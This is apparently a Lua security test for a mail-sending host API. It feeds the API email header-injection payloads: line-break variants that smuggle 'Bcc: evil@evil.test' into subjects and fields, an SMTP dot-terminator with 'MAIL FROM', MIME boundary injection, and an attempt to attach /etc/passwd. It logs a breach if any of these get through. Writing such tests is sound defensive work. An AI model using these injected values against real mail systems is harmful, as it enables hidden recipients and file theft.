-- ATTACK hostile value: line ends in every form, and text that looks like a header or the end of a mail, in subject, text and options | SAFE HOST: refused, or carried inside of the text; never a header
-- SPDX-License-Identifier: MIT
for _, nl in ipairs { "\u{2028}", "\u{2029}", "\u{85}", "\27", "\8", "\127" } do
  pcall(host.send, { to = contact.email, subject = "hi" .. nl .. "Bcc: evil@evil.test", body = "b" })
end
for _, body in ipairs { "x\r\n.\r\nMAIL FROM:<evil@evil.test>\r\n", "\n.\n", "\r\n\r\nBcc: evil@evil.test", "--boundary\nContent-Type: text/html", ("l"):rep(5000) } do
  pcall(host.send, { to = contact.email, subject = "=?utf-8?q?=0D=0ABcc=3A_evil=40evil.test?=", body = body })
end
if pcall(function() assert(contact:try_send("email", "intro", { cc = { "b@evil.test\r\nBcc: c@evil.test" } })) end) then host.log("BREACH cc took a line end") end
if pcall(function() assert(contact:try_send("email", "intro", { attach = { "/etc/passwd" } })) end) then host.log("BREACH a file was attached") end
if pcall(function() assert(contact:try_send("email", "intro", { from = "sink\r\nBcc: evil@evil.test" })) end) then host.log("BREACH from took a line end") end
